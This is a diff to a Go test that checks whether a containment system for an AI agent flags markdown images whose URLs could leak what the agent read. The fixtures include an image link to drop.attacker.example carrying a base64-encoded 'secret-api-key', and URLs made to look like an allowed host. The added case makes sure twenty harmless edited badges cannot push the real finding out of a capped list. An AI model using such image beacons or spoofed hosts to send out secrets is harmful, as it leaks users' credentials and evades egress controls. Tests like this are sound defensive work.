@@ -2,6 +2,7 @@ package execute
 
 import (
 	"context"
+	"fmt"
 	"os"
 	"os/exec"
 	"path/filepath"
@@ -33,6 +34,14 @@ func TestRedTeamImagesCarryWhatTheAgentRead(t *testing.T) {
 	contained := agent.Containment{Sandbox: &sandbox.Sandbox{}, Egress: &agent.Egress{Rules: allowed}}
 	open := agent.Containment{}
 	leak := "https://drop.attacker.example/p.png?d=c2VjcmV0LWFwaS1rZXk"
+	// Twenty files that show an image they held already, touched, fill
+	// the findings before the file that adds one.
+	manyBefore, manyAfter := map[string]string{}, map[string]string{"zz.md": "![ok](" + leak + ")\n"}
+	for i := range maxImageFindings {
+		name := fmt.Sprintf("docs/d%02d.md", i)
+		manyBefore[name] = "![badge](https://ci.example/badge.svg)\n"
+		manyAfter[name] = "![badge](https://ci.example/badge.svg)\n\nEdited.\n"
+	}
 	cases := []struct {
 		name    string
 		contain agent.Containment
@@ -71,6 +80,7 @@ func TestRedTeamImagesCarryWhatTheAgentRead(t *testing.T) {
 			map[string]string{"NOTES.MD": "![ok](" + leak + ")\n"}, "NOTES.MD (an image from drop.attacker.example)"},
 		{"an allowed host's look-alikes", contained, nil, map[string]string{"l.md": "![a](https://evil.example%2F.img.shields.io/x) ![b](https://img.shields.io%40evil.example/y) ![c](https://img.shields.io\uff0eevil.example/z)\n"},
 			"l.md (an image from evil.example%2f.img.shields.io, img.shields.io%40evil.example, img.shields.io\uff0eevil.example)"},
+		{"after twenty files showing images they held", contained, manyBefore, manyAfter, "zz.md (an image from drop.attacker.example)"},
 		{"a link is not fetched", contained, nil, map[string]string{"x.md": "[report](" + leak + ")\n"}, ""},
 		{"a file GitHub shows as text", contained, nil, map[string]string{"notes.txt": "![ok](" + leak + ")\n"}, ""},
 		{"an open network", open, nil, map[string]string{"x.md": "![ok](" + leak + ")\n"}, ""},
@@ -83,6 +93,9 @@ func TestRedTeamImagesCarryWhatTheAgentRead(t *testing.T) {
 			repo, tip := testRepo(t)
 			if len(c.before) > 0 {
 				for name, text := range c.before {
+					if err := os.MkdirAll(filepath.Dir(filepath.Join(repo.Root, name)), 0o755); err != nil {
+						t.Fatal(err)
+					}
 					if err := os.WriteFile(filepath.Join(repo.Root, name), []byte(text), 0o644); err != nil {
 						t.Fatal(err)
 					}
